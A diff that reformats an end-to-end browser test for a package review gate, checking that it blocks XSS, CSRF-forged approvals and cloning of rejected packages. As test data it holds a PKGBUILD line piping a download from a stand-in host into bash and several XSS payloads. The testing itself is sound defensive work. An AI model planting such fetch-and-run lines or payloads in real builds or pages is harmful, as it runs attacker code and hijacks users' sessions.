@@ -16,7 +16,12 @@ const PASSWORD = 'correct horse battery staple';
 const SCRIPT = '<script>window.__pwned=1</script>';
 const IMG = '<img src=x onerror="window.__pwned=1">';
 const SCREENSHOTS = join(REPO_ROOT, 'test/screenshots');
-const CLIENT_ENV = { ...Object.fromEntries(Object.entries(process.env).filter(([key]) => !key.startsWith('GIT_'))), GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_TERMINAL_PROMPT: '0' };
+const CLIENT_ENV = {
+  ...Object.fromEntries(Object.entries(process.env).filter(([key]) => !key.startsWith('GIT_'))),
+  GIT_CONFIG_NOSYSTEM: '1',
+  GIT_CONFIG_GLOBAL: '/dev/null',
+  GIT_TERMINAL_PROMPT: '0',
+};
 
 let upstream: TestUpstream;
 let aurgate: Harness;
@@ -27,7 +32,10 @@ let scratch: string;
 /** A version bump that pipes a download into bash inside package(). */
 function maliciousUpdate(pkgbase: string): Record<string, string> {
   const files = makePackage({ pkgbase, pkgver: '1.1.0', depends: ['bash'] });
-  return { ...files, PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -fsSL https://paste.example/raw/x7Qz | bash\n') };
+  return {
+    ...files,
+    PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -fsSL https://paste.example/raw/x7Qz | bash\n'),
+  };
 }
 
 function pendingCommit(pkgbase: string): string {
@@ -51,14 +59,22 @@ async function signIn(name: string, viewport = { width: 1280, height: 900 }): Pr
 beforeAll(async () => {
   [upstream, browser, scratch] = await Promise.all([
     TestUpstream.start(),
-    chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'] }),
+    chromium.launch({
+      executablePath: '/usr/bin/chromium',
+      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
+    }),
     mkdtemp(join(tmpdir(), 'aurgate-e2e-')),
   ]);
   await upstream.addPackage(makePackage({ pkgbase: 'hello' }));
   await upstream.addPackage(makePackage({ pkgbase: 'nope' }));
   await upstream.addPackage(makePackage({ pkgbase: 'libfoo', depends: ['bash'] }));
   await upstream.addPackage(
-    makePackage({ pkgbase: 'xss', pkgdesc: SCRIPT, extraPkgbuild: `# ${SCRIPT}\n# ${IMG}`, extraFiles: { [`${IMG.replaceAll('"', '')}.sh`]: `echo '${SCRIPT}'\n` } }),
+    makePackage({
+      pkgbase: 'xss',
+      pkgdesc: SCRIPT,
+      extraPkgbuild: `# ${SCRIPT}\n# ${IMG}`,
+      extraFiles: { [`${IMG.replaceAll('"', '')}.sh`]: `echo '${SCRIPT}'\n` },
+    }),
     { Maintainer: IMG },
     SCRIPT,
   );
@@ -68,7 +84,10 @@ beforeAll(async () => {
   await aurgate.app.approve({ pkgbase: 'libfoo', commit: pendingCommit('libfoo'), reviewer: 'seed' });
   await upstream.push('libfoo', maliciousUpdate('libfoo'), 'Update to 1.1.0');
   await aurgate.app.sync({ trigger: 'cli' });
-  await Promise.all([createUser(aurgate.app.db, { name: 'rita', role: 'reviewer', password: PASSWORD }, 'test'), createUser(aurgate.app.db, { name: 'vic', role: 'viewer', password: PASSWORD }, 'test')]);
+  await Promise.all([
+    createUser(aurgate.app.db, { name: 'rita', role: 'reviewer', password: PASSWORD }, 'test'),
+    createUser(aurgate.app.db, { name: 'vic', role: 'viewer', password: PASSWORD }, 'test'),
+  ]);
   await mkdir(SCREENSHOTS, { recursive: true });
   url = await aurgate.serve();
 });
@@ -128,8 +147,15 @@ describe('the web admin in a real browser', () => {
     await page.getByLabel('Reason (required)').fill('not what upstream publishes');
     await reject.click();
     await page.waitForURL(`${url}/admin/packages/nope?notice=rejected`);
-    expect(getRevision(aurgate.app.db, 'nope', commit)).toMatchObject({ state: 'rejected', decidedBy: 'rita', decisionNote: 'not what upstream publishes' });
-    const clone = await run('git', ['clone', '-q', `${url}/nope.git`, join(scratch, 'nope')], { env: CLIENT_ENV }).then(() => 'cloned', () => 'refused');
+    expect(getRevision(aurgate.app.db, 'nope', commit)).toMatchObject({
+      state: 'rejected',
+      decidedBy: 'rita',
+      decisionNote: 'not what upstream publishes',
+    });
+    const clone = await run('git', ['clone', '-q', `${url}/nope.git`, join(scratch, 'nope')], { env: CLIENT_ENV }).then(
+      () => 'cloned',
+      () => 'refused',
+    );
     expect(clone).toBe('refused');
     await context.close();
   });
@@ -140,7 +166,11 @@ describe('the web admin in a real browser', () => {
     expect(await page.locator('form.approve').count()).toBe(0);
     await expect.poll(() => page.getByText('need the reviewer role').count()).toBe(1);
     const csrf = await page.locator('input[name=_csrf]').first().getAttribute('value');
-    const forged = await page.request.post(`${url}/admin/review/libfoo/approve`, { form: { commit: pendingCommit('libfoo'), _csrf: csrf ?? '' }, headers: { Origin: url }, maxRedirects: 0 });
+    const forged = await page.request.post(`${url}/admin/review/libfoo/approve`, {
+      form: { commit: pendingCommit('libfoo'), _csrf: csrf ?? '' },
+      headers: { Origin: url },
+      maxRedirects: 0,
+    });
     expect(forged.status()).toBe(403);
     expect(getPendingRevision(aurgate.app.db, 'libfoo')).not.toBeNull();
     await context.close();
@@ -150,7 +180,10 @@ describe('the web admin in a real browser', () => {
     const { context, page } = await signIn('rita');
     await page.goto(`${url}/admin/review/libfoo`);
     await page.locator('form.approve input[name=_csrf]').evaluate((input) => input.remove());
-    const [response] = await Promise.all([page.waitForResponse((candidate) => candidate.request().method() === 'POST'), page.locator('form.approve button').click()]);
+    const [response] = await Promise.all([
+      page.waitForResponse((candidate) => candidate.request().method() === 'POST'),
+      page.locator('form.approve button').click(),
+    ]);
     expect(response.status()).toBe(403);
     expect(await page.locator('.error').textContent()).toContain('CSRF token');
     expect(getPendingRevision(aurgate.app.db, 'libfoo')?.state).toBe('pending');
@@ -162,7 +195,14 @@ describe('the web admin in a real browser', () => {
     const problems: string[] = [];
     page.on('dialog', (dialog) => void (problems.push(`dialog: ${dialog.message()}`), dialog.dismiss()));
     page.on('console', (message) => problems.push(`console: ${message.text()}`));
-    for (const path of ['/admin/queue', '/admin/review/xss', '/admin/review/xss?view=line-by-line', '/admin/packages/xss', '/admin/review/xss/file?path=PKGBUILD', '/admin/audit']) {
+    for (const path of [
+      '/admin/queue',
+      '/admin/review/xss',
+      '/admin/review/xss?view=line-by-line',
+      '/admin/packages/xss',
+      '/admin/review/xss/file?path=PKGBUILD',
+      '/admin/audit',
+    ]) {
       await page.goto(`${url}${path}`);
       expect(await page.evaluate(() => (globalThis as unknown as Record<string, unknown>)['__pwned']), path).toBeUndefined();
       expect(await page.locator('main script, main img[src=x]').count(), path).toBe(0);
